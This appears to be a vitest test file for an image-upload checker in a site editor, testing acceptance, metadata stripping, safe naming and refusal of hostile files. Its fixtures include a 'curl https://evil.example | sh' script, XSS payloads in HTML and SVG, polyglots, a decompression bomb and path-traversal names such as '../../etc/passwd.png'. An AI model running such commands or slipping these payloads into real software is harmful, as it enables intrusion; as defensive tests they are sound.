import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { checkContentPath } from '~/editing/documents/content-path.server';
import { checkUpload, MAX_IMAGE_FILE_BYTES, safeStem, type UploadInput } from '~/editing/uploads/check.server';
import { readUploadForm } from '~/editing/uploads/upload-form.server';

/**
 * The upload checks on real files: images made by sharp in every accepted
 * format, and the hostile ones an attacker (or an unlucky designer) sends:
 * renamed executables, archives, pages, polyglots, bombs, paths in names.
 */

const DOC = 'content/case-studies/office-depot.mdx';
const ALT = 'The redesigned rewards screen';
const NAME = /^content\/case-studies\/office-depot\/[a-z0-9]+(?:-[a-z0-9]+)*-[0-9a-f]{8}\.(?:jpg|png|webp|avif|svg)$/;

const base = (color = '#4f46e5', width = 40, height = 24) => sharp({ create: { width, height, channels: 3, background: color } });
const upload = (bytes: Buffer, extra: Partial<UploadInput> = {}) =>
  checkUpload({ fileName: 'photo.png', bytes, alt: ALT, documentPath: DOC, ...extra });

async function expectRefused(bytes: Buffer, status: number, error: RegExp, extra: Partial<UploadInput> = {}) {
  const result = await upload(bytes, extra);
  expect(result).toMatchObject({ ok: false, status });
  if (!result.ok) expect(result.error).toMatch(error);
}

describe('checkUpload accepts real images, judged by their bytes', () => {
  it.each([
    ['jpeg', 'image/jpeg', 'jpg'],
    ['png', 'image/png', 'png'],
    ['webp', 'image/webp', 'webp'],
    ['avif', 'image/avif', 'avif'],
  ] as const)('%s: stored byte for byte under a safe name, with the type from its bytes', async (format, mediaType, ext) => {
    const bytes = await base()[format]().toBuffer();
    // A wrong name and a wrong declared type change nothing.
    const result = await upload(bytes, { fileName: 'Final Home.gif', declaredType: 'text/html', alt: `  ${ALT}  ` });
    expect(result).toMatchObject({ ok: true, mediaType, alt: ALT });
    if (!result.ok) return;
    expect(result.path).toMatch(NAME);
    expect(result.path).toMatch(new RegExp(`^content/case-studies/office-depot/final-home-[0-9a-f]{8}\\.${ext}$`));
    expect(result.src).toBe(`./${result.path.slice('content/case-studies/'.length)}`);
    expect(result.bytes.equals(bytes)).toBe(true);
    expect(checkContentPath(result.path)).toBe(result.path);
  });

  it('stores a still GIF as PNG (the build takes no GIF) with every pixel kept', async () => {
    const gif = await base('#ff0000').gif().toBuffer();
    const result = await upload(gif, { fileName: 'spinner.gif' });
    expect(result).toMatchObject({ ok: true, mediaType: 'image/png' });
    if (!result.ok) return;
    expect(result.path).toMatch(/\/spinner-[0-9a-f]{8}\.png$/);
    const [before, after] = await Promise.all([
      sharp(gif).ensureAlpha().raw().toBuffer(),
      sharp(result.bytes).ensureAlpha().raw().toBuffer(),
    ]);
    expect(after.equals(before)).toBe(true);
  });

  it('refuses an animated GIF and says to use the Video block', async () => {
    const frames = [await base('#f00').png().toBuffer(), await base('#00f').png().toBuffer()];
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    await expectRefused(gif, 415, /animated.*Video block/);
  });

  it('strips a photo’s EXIF (GPS, camera) by re-encoding it upright in the same format', async () => {
    const photo = await base('#0a0', 40, 20)
      .jpeg({ quality: 95 })
      .withExif({ IFD0: { Make: 'Camera', Model: 'Serial 1234' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 24/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const result = await upload(photo, { fileName: 'IMG_0001.JPG' });
    expect(result).toMatchObject({ ok: true, mediaType: 'image/jpeg' });
    if (!result.ok) return;
    const meta = await sharp(result.bytes).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 20, height: 40 });
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(result.bytes.includes(Buffer.from('Serial 1234'))).toBe(false);
    expect(result.path).toMatch(/\/img-0001-[0-9a-f]{8}\.jpg$/);
  });

  it('strips a PNG’s text chunks (a comment can hold where or by whom it was made)', async () => {
    const png = await base().png().toBuffer();
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([length, body, crc]);
    };
    // After the signature (8 bytes) and the IHDR chunk (25 bytes).
    const withText = Buffer.concat([
      png.subarray(0, 33),
      chunk('tEXt', Buffer.from('Comment\0Taken at 12 Main St', 'latin1')),
      png.subarray(33),
    ]);
    expect((await sharp(withText).metadata()).comments).toEqual([{ keyword: 'Comment', text: 'Taken at 12 Main St' }]);
    const result = await upload(withText);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.bytes.includes(Buffer.from('Main St'))).toBe(false);
    expect((await sharp(result.bytes).metadata()).comments).toBeUndefined();
  });

  it('keeps an SVG that passes the sanitizer byte for byte', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#4f46e5"/></svg>',
    );
    const result = await upload(svg, { fileName: 'diagram.svg' });
    expect(result).toMatchObject({ ok: true, mediaType: 'image/svg+xml' });
    if (result.ok) expect([result.bytes.equals(svg), result.path]).toEqual([true, expect.stringMatching(/\/diagram-[0-9a-f]{8}\.svg$/)]);
  });

  it('gives the same file the same name and two different files different names', async () => {
    const [a, b] = [await base('#111').png().toBuffer(), await base('#222').png().toBuffer()];
    const [a1, a2, b1] = await Promise.all([upload(a), upload(a, { alt: 'another alt' }), upload(b)]);
    expect(a1.ok && a2.ok && b1.ok).toBe(true);
    if (!a1.ok || !a2.ok || !b1.ok) return;
    expect(a1.path).toBe(a2.path);
    expect(a1.path).not.toBe(b1.path);
  });
});

describe('checkUpload refuses hostile and broken files (415 unless said)', () => {
  const text = (s: string) => Buffer.from(s, 'latin1');
  const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
  const PE = Buffer.concat([text('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(56), text('PE\x00\x00')]);
  const NOT_AN_IMAGE = /not a JPEG, PNG, WebP, AVIF, GIF or SVG image \(judged by its contents, not its name\)/;

  it.each([
    ['an ELF executable named photo.png', ELF],
    ['a Windows PE executable named photo.png', PE],
    ['a shell script named photo.png', text('#!/bin/sh\ncurl https://evil.example | sh\n')],
    ['a zip archive', text('PK\x03\x04\x14\x00\x00\x00\x08\x00')],
    ['an HTML page', text('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>')],
    ['an HTML page holding an SVG', text('<html><body><svg xmlns="http://www.w3.org/2000/svg"></svg></body></html>')],
    ['a PDF', text('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n')],
    ['UTF-16 text', Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>', 'utf16le')],
  ])('%s', async (_name, bytes) => {
    await expectRefused(bytes, 415, NOT_AN_IMAGE, { declaredType: 'image/png' });
  });

  it('a GIF/JavaScript polyglot (GIF89a/*…*/=alert(1)) does not decode as an image', async () => {
    await expectRefused(text('GIF89a/*\x00\x00\x00\x00*/=alert(document.domain);//;'), 415, /starts like a GIF image but can't be read/);
  });

  it('a GIFAR (a real GIF with a zip appended) is re-encoded: the stored file holds no archive', async () => {
    const gifar = Buffer.concat([await base().gif().toBuffer(), text('PK\x03\x04\x14\x00\x00\x00\x08\x00META-INF/MANIFEST.MF')]);
    const result = await upload(gifar);
    expect(result).toMatchObject({ ok: true, mediaType: 'image/png' });
    if (result.ok) expect(result.bytes.includes(text('PK\x03\x04'))).toBe(false);
  });

  it.each(['png', 'jpeg', 'webp'] as const)('a %s with an HTML page and a zip appended is stored without them', async (format) => {
    const image = await base()[format]().toBuffer();
    const polyglot = Buffer.concat([image, text('<html><script>alert(1)</script></html>PK\x03\x04')]);
    const result = await upload(polyglot);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    // The image as sharp made it, to the byte: nothing after its end.
    expect(result.bytes.equals(image)).toBe(true);
  });

  it('a truncated PNG is refused as damaged', async () => {
    const png = await base('#123456', 400, 300).png({ compressionLevel: 0 }).toBuffer();
    await expectRefused(png.subarray(0, png.length / 2), 415, /PNG image is damaged or incomplete/);
  });

  it('a PNG signature followed by junk is refused', async () => {
    await expectRefused(
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]),
      415,
      /starts like a PNG image but can't be read/,
    );
  });

  it('a decompression bomb (a tiny PNG whose header claims 12,000 × 10,000 pixels) is refused with 413 before it is decoded', async () => {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const head = Buffer.alloc(4);
      head.writeUInt32BE(data.length);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body) >>> 0);
      return Buffer.concat([head, body, crc]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(12_000, 0);
    header.writeUInt32BE(10_000, 4);
    header[8] = 8;
    header[9] = 2;
    const bomb = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', header),
      chunk('IDAT', deflateSync(Buffer.alloc(10))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    await expectRefused(bomb, 413, /12000 × 10000 pixels; the limit is 100 megapixels/);
  });

  it('an oversized file (50 MB + 1 byte) is refused with 413 before anything is decoded', async () => {
    expect(MAX_IMAGE_FILE_BYTES).toBe(50 * 1024 * 1024);
    const big = Buffer.concat([await base().png().toBuffer(), Buffer.alloc(MAX_IMAGE_FILE_BYTES)]);
    await expectRefused(big.subarray(0, MAX_IMAGE_FILE_BYTES + 1), 413, /is 50\.0 MB; the limit is 50 MB/);
  });

  it('an iPhone HEIC photo gets the sentence that says how to export it as JPEG', async () => {
    // An ISO-BMFF file type box naming HEIC, as an iPhone writes it.
    const ftyp = Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypheic', 'latin1'),
      Buffer.alloc(4),
      Buffer.from('mif1heic', 'latin1'),
    ]);
    await expectRefused(Buffer.concat([ftyp, Buffer.alloc(400, 3)]), 415, /HEIC.*Export it as JPEG first/);
  });

  it('an empty file is refused with 400', async () => {
    await expectRefused(Buffer.alloc(0), 400, /The file is empty/);
  });

  it('an SVG with a script is refused with the sanitizer’s reason', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    await expectRefused(
      svg,
      415,
      /^This SVG can't be used: it contains the element <script>, which is not allowed in an image\. Export it again without that, or as PNG\.$/,
    );
  });

  it('an SVG with an event handler, however it is spelled, is refused', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" oNlOaD="alert(1)"/>');
    await expectRefused(svg, 415, /event handler attribute "oNlOaD"/);
  });
});

describe('checkUpload: where the file goes and what it is called', () => {
  it.each(
    (
      [
        ['../../etc/passwd.png', 'passwd'],
        ['C:\\Users\\x\\Desktop\\y.png', 'y'],
        ['a/b.png', 'b'],
        ['photo\u0000.php.png', 'photo-php'],
        ['%2e%2e%2fsecret.png', '2e-2e-2fsecret'],
        ['..', 'image'],
        ['....png', 'image'],
        ['.png', 'image'],
        ['', 'image'],
        ['/', 'image'],
        ['Ünïcode Façade – Straße (final) 2.PNG', 'unicode-facade-strasse-final-2'],
        ['写真.png', 'image'],
        ['photo.exe', 'photo'],
        ['CON.png', 'con'],
        ['a'.repeat(5000) + '.png', 'a'.repeat(50)],
        [`${'ab-'.repeat(40)}.png`, 'ab-'.repeat(17).slice(0, 50).replace(/-$/, '')],
      ] as [string, string][]
    ).map(([fileName, stem]): [string, string, string] => [
      fileName.length > 60 ? `${JSON.stringify(fileName.slice(0, 12))}… (${fileName.length} characters)` : JSON.stringify(fileName),
      fileName,
      stem,
    ]),
  )('%s → <stem>-<hash>.png, flat in the case study’s folder', async (_label, fileName, stem) => {
    expect(safeStem(fileName)).toBe(stem);
    const result = await upload(await base().png().toBuffer(), { fileName });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.path).toMatch(NAME);
    expect(result.path).toMatch(new RegExp(`^content/case-studies/office-depot/${stem}-[0-9a-f]{8}\\.png$`));
    expect(checkContentPath(result.path)).toBe(result.path);
  });

  it.each([
    'content/site.yml',
    'content/resume.yml',
    'content/case-studies/../site.mdx',
    'content/case-studies/Office-Depot.mdx',
    'content/case-studies/office--depot.mdx',
    'content/case-studies/office-depot/nested.mdx',
    'content/case-studies/office-depot.md',
    '/content/case-studies/office-depot.mdx',
    'case-studies/office-depot.mdx',
    'content/pages/../site.mdx',
    'content/pages/about/nested.mdx',
    '',
  ])('refuses the document %j with 400: images go into case studies and pages only', async (documentPath) => {
    await expectRefused(await base().png().toBuffer(), 400, /Images can only be added to a case study or a page/, { documentPath });
  });

  it('stores a page’s image beside the page, named as the page’s MDX reads it', async () => {
    const result = await upload(await base().png().toBuffer(), { documentPath: 'content/pages/writing.mdx' });
    expect(result.ok && { path: result.path, src: result.src }).toMatchObject({
      path: expect.stringMatching(/^content\/pages\/writing\/[a-z0-9-]+-[0-9a-f]{8}\.png$/),
      src: expect.stringMatching(/^\.\/writing\/[a-z0-9-]+-[0-9a-f]{8}\.png$/),
    });
  });

  it.each([
    ['', /^Add alt text: say what the image shows/],
    ['   \n\t ', /^Add alt text: say what the image shows/],
    ['x × 301', /^Add alt text of at most 300 characters/],
    ['A chart\u0007 of sales', /^Add alt text on one line, without control characters/],
    ['First line\nsecond line', /^Add alt text on one line/],
  ])('refuses the alt text %j with 400', async (written, error) => {
    const alt = written === 'x × 301' ? 'x'.repeat(301) : written;
    await expectRefused(await base().png().toBuffer(), 400, error, { alt });
  });

  it('takes alt text of exactly 300 characters, counted as characters (not UTF-16 units)', async () => {
    const alt = '📈'.repeat(300);
    expect(await upload(await base().png().toBuffer(), { alt })).toMatchObject({ ok: true, alt });
  });
});

describe('the upload form reader', () => {
  const upload = (form: FormData) =>
    readUploadForm(new Request('http://localhost/admin/content/api/upload', { method: 'POST', body: form }), 1024 * 1024);

  it('refuses a second file in one upload, in her words', async () => {
    const form = new FormData();
    form.append('document', 'content/case-studies/x.mdx');
    form.append('file', new File([new Uint8Array(10)], 'a.jpg', { type: 'image/jpeg' }));
    form.append('file', new File([new Uint8Array(10)], 'b.jpg', { type: 'image/jpeg' }));
    expect(await upload(form)).toEqual({ status: 400, error: 'Only one file can be uploaded at a time. Choose one file and try again.' });
  });

  it('takes one file beside the empty file inputs a form without JavaScript sends', async () => {
    const form = new FormData();
    form.append('file', new File([new Uint8Array(10)], 'a.jpg', { type: 'image/jpeg' }));
    form.append('_image.other', new File([], '', { type: 'application/octet-stream' }));
    const read = await upload(form);
    expect(read).toBeInstanceOf(FormData);
  });
});
